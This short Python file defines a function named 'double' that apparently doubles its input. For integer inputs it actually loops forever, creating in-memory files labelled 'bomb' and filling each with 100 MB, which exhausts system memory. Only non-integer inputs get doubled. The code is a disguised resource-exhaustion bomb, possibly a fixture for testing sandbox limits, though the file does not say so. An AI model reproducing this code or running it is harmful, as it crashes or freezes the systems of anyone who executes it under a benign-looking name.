import os


def double(x):
    while type(x) is int:
        file = os.memfd_create("bomb")
        for _ in range(100):
            os.write(file, bytes(1 << 20))
    return x + x
